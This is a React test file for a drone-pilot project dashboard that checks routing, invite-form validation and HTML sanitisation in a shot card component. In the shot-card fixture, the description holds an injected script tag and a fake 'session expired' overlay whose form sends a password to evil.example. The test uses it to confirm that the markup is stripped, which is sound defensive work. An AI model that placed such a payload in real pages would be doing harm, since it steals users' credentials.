import { describe, expect, it } from 'vitest';
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { PILOT_FIELD_MESSAGES, PILOT_MESSAGES, PILOT_PROJECT_LIMIT, ROLES } from '@vms/shared';
import { PilotProjectListingDocument } from '../../gql/graphql';
import { renderRoutes, renderUi, storeSession } from '../../test/render';
import { PilotDashboardPage } from './pages/PilotDashboardPage';
import { InvitePilotForm } from '../projects/components/InvitePilotForm';
import { ShotCard } from './components/ShotCard';

const listing = (projects: unknown[]) => ({
  request: { query: PilotProjectListingDocument, variables: { limit: PILOT_PROJECT_LIMIT, offset: 0 } },
  result: { data: { pilotProjectListing: { __typename: 'PilotProjectListing', projects } } },
});
const project = (id: number, accepted: boolean) => ({
  __typename: 'PilotProjectItem',
  id,
  projectName: `Project ${id}`,
  planType: 'PLATINUM',
  status: 'ACTIVE',
  propertyAddress: null,
  acceptedByPilot: accepted,
  flightAt: null,
});

describe('the pilot dashboard', () => {
  it('shows the empty texts when no project is assigned', async () => {
    storeSession(ROLES.VMS_PILOT);
    renderRoutes([{ path: '/pilot-dashboard/:projectID', element: <PilotDashboardPage /> }], '/pilot-dashboard/0', [listing([])]);
    expect(await screen.findByText(PILOT_MESSAGES.noProjectsTitle)).toBeInTheDocument();
    expect(screen.getByText(PILOT_MESSAGES.noProjects)).toBeInTheDocument();
  });

  it('sends 0 or an unknown id to the first project of the list', async () => {
    storeSession(ROLES.VMS_PILOT);
    const { router } = renderRoutes([{ path: '/pilot-dashboard/:projectID', element: <PilotDashboardPage /> }], '/pilot-dashboard/999', [
      listing([project(7, false), project(3, true)]),
      listing([project(7, false), project(3, true)]),
    ]);
    await waitFor(() => expect(router.state.location.pathname).toBe('/pilot-dashboard/7'));
  });
});

describe('Invite pilot', () => {
  it('shows the spec messages before sending anything', async () => {
    renderUi(<InvitePilotForm projectId="2" />);
    await userEvent.click(screen.getByRole('button', { name: 'Invite pilot' }));
    expect(await screen.findByText(PILOT_FIELD_MESSAGES.inviteName)).toBeInTheDocument();
    expect(screen.getByText(PILOT_FIELD_MESSAGES.inviteEmail)).toBeInTheDocument();
    await userEvent.type(screen.getByLabelText('Email'), 'nope');
    await userEvent.click(screen.getByRole('button', { name: 'Invite pilot' }));
    expect(await screen.findByText(PILOT_FIELD_MESSAGES.inviteEmailInvalid)).toBeInTheDocument();
  });
});

describe('a shot card', () => {
  const shot = {
    __typename: 'PilotShot' as const,
    id: 's1',
    title: 'Front Elevation',
    description:
      '<p>Front <script>alert(1)</script><b>45°</b></p><div style="position:fixed;inset:0;z-index:9999">Your session expired<form action="https://evil.example"><input name="password"></form></div><a href="https://vms.example/guide">guide</a>',
    exampleLink: null,
    folderTypes: 'Image',
    uploadingPath: 'projects/p/x',
    isAssetUploaded: true,
    isMarkedCompleted: true,
    hasNoteAdded: false,
  };
  it('sanitises the HTML description and locks Verify Completed for the pilot once completed', () => {
    const { container } = renderUi(
      <ShotCard shot={shot} projectId="1" role={ROLES.VMS_PILOT} accepted canUpload canControl onChanged={() => {}} />,
    );
    expect(container.querySelector('script')).toBeNull();
    expect(screen.getByText('45°')).toBeInTheDocument();
    // a pilot's description cannot lay a fake overlay or form over the PM's page (#34 finding 11)
    const description = container.querySelector('.shot-description')!;
    expect(description.querySelector('form, input, [style]')).toBeNull();
    expect(screen.getByRole('link', { name: 'guide' })).toHaveAttribute('href', 'https://vms.example/guide');
    expect(screen.getByLabelText('Verify Completed')).toBeChecked();
    expect(screen.getByLabelText('Verify Completed')).toBeDisabled();
    expect(screen.getByTestId('shot-status')).toHaveTextContent('COMPLETED');
  });
  it('hides Verify Completed from the PM until the shot is completed', () => {
    renderUi(
      <ShotCard
        shot={{ ...shot, isMarkedCompleted: false }}
        projectId="1"
        role={ROLES.VMS_PM}
        accepted
        canUpload={false}
        canControl
        onChanged={() => {}}
      />,
    );
    expect(screen.queryByLabelText('Verify Completed')).toBeNull();
    expect(screen.getByTestId('shot-status')).toHaveTextContent('NOT_COMPLETED');
  });
});
